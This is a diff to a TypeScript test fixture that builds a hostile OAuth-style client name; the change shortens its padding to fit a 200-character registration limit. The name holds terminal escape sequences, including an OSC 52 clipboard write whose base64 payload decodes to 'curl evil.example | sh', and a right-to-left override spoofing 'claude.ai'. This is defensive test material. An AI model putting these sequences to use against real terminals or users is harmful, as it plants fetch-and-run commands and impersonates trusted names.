@@ -12,15 +12,16 @@ export const RAW_CONTROL =
  * A client name that tries everything a terminal acts on: an OSC 52 clipboard write ended by BEL, a carriage
  * return and an erase-line to overwrite what was printed before, a C1 CSI moving the cursor up, a backspace,
  * a right-to-left override so the rest reads backwards, an isolate, a zero-width space, a line separator;
- * then padding, so only a cut keeps what follows the name (the match code) visible.
+ * then padding, so only a cut keeps what follows the name (the match code) visible. The whole name stays within
+ * the 200 characters a registration may give `client_name` (REGISTRATION_LIMITS), far past every display cut.
  */
 export const HOSTILE_NAME =
   'Claude\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\r\u001b[2K\u009b1A\u0008\u202eia.edualc' +
   '\u2066\u200b\u2028'.repeat(2) +
-  'x'.repeat(200);
+  'x'.repeat(120);
 
 /** How HOSTILE_NAME reads once escaped (before any cut). */
 export const HOSTILE_NAME_SHOWN =
   'Claude\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x0d\\x1b[2K\\x9b1A\\x08\\u202eia.edualc' +
   '\\u2066\\u200b\\u2028'.repeat(2) +
-  'x'.repeat(200);
+  'x'.repeat(120);
